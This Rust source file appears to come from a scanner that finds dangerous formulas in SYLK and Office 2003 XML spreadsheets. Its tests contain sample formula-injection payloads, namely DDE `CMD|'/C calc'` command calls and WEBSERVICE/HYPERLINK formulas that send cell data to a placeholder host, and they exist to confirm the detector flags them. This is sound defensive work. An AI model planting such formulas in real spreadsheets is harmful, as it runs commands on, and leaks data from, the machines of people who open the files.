//! Which formulas stand in tables that are written in a format of their own?
//!
//! SYLK (`.slk`, or any table that begins with `ID;`) has a formula in a field of its own, without
//! a sign; the XML of Office 2003 has it in an attribute.

use super::decode;
use super::judge::{self, Sign};
use crate::{Budget, Notes, Severity, Unscannable};

/// Looks at the formulas of a table in SYLK.
pub(super) fn symbols(
    text: &str,
    notes: &mut Notes,
    budget: &mut Budget,
) -> Result<(), Unscannable> {
    for (number, line) in text.split(['\n', '\r']).enumerate() {
        budget.charge(line.len().max(1) as u64)?;
        // `;;` is a semicolon within a field.
        let line = line.replace(";;", "\u{1}");
        let mut fields = line.split(';');
        let record = fields.next().unwrap_or_default().trim();
        for field in fields {
            let formula = match record {
                "C" | "F" => field.strip_prefix(['E', 'M']),
                "NN" => field.strip_prefix('E'),
                _ => None,
            };
            if let Some(formula) = formula {
                judged(&formula.replace('\u{1}', ";"), number, notes, budget)?;
            }
        }
    }
    Ok(())
}

/// Looks at the formulas of a table in the XML of Office 2003.
pub fn attributes(text: &str, notes: &mut Notes, budget: &mut Budget) -> Result<(), Unscannable> {
    for (number, at) in memchr::memmem::find_iter(text.as_bytes(), "Formula").enumerate() {
        let value = text[at + "Formula".len()..].trim_start();
        let Some(value) = value.strip_prefix('=').map(str::trim_start) else {
            continue;
        };
        let Some(mark) = value.chars().next().filter(|c| matches!(c, '"' | '\'')) else {
            continue;
        };
        let value = value[1..].split(mark).next().unwrap_or_default();
        let value = decode::references(value);
        let formula = value.trim_start();
        judged(
            formula.strip_prefix('=').unwrap_or(formula),
            number,
            notes,
            budget,
        )?;
    }
    Ok(())
}

/// That a sheet computes something is no news here: only what it does beyond that counts.
fn judged(
    formula: &str,
    number: usize,
    notes: &mut Notes,
    budget: &mut Budget,
) -> Result<(), Unscannable> {
    budget.charge(4 * formula.len().max(1) as u64)?;
    let near = judge::near(Sign::EQUALS, formula).found;
    let found = judge::far(Sign::EQUALS, formula)
        .into_iter()
        .chain(near)
        .max();
    if let Some(found) = found.filter(|found| found.severity > Severity::Active) {
        let place = format!("formula {}", number + 1);
        notes.find(found.rule, found.severity, place, found.message);
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Limits;

    fn worst(
        text: &str,
        check: fn(&str, &mut Notes, &mut Budget) -> Result<(), Unscannable>,
    ) -> Option<Severity> {
        let mut notes = Notes::default();
        check(text, &mut notes, &mut Budget::new(Limits::default())).expect("small");
        notes.worst()
    }

    #[test]
    fn formulas_of_other_formats_are_judged() {
        let slk = |field: &str| format!("ID;PWXL\nC;X1;Y1;K0;{field}\nE\n");
        for (field, severity) in [
            ("ECMD|'/C calc'!A0", Some(Severity::Malicious)),
            ("EA1&CMD|'/C a;;b'!A0", Some(Severity::Malicious)),
            (
                "EHYPERLINK(\"http://a.invalid\",\"x\")",
                Some(Severity::Suspicious),
            ),
            ("ESUM(R1C1:R2C2)", None),
            ("K\"=CMD|'/C calc'!A0\"", None),
        ] {
            assert_eq!(worst(&slk(field), symbols), severity, "{field}");
            assert_eq!(worst(&slk(field), super::super::check), severity, "{field}");
        }
        let xml = |formula: &str| format!("<Cell ss:Formula=\"{formula}\"><Data>0</Data></Cell>");
        for (formula, severity) in [
            ("=cmd|'/C calc'!A0", Some(Severity::Malicious)),
            ("&#61;cmd|&apos;/C calc&apos;!A0", Some(Severity::Malicious)),
            (
                "=WEBSERVICE(&quot;http://a.invalid/&quot;&amp;A1)",
                Some(Severity::Suspicious),
            ),
            ("=SUM(R[-3]C:R[-1]C)", None),
        ] {
            assert_eq!(worst(&xml(formula), attributes), severity, "{formula}");
        }
    }
}
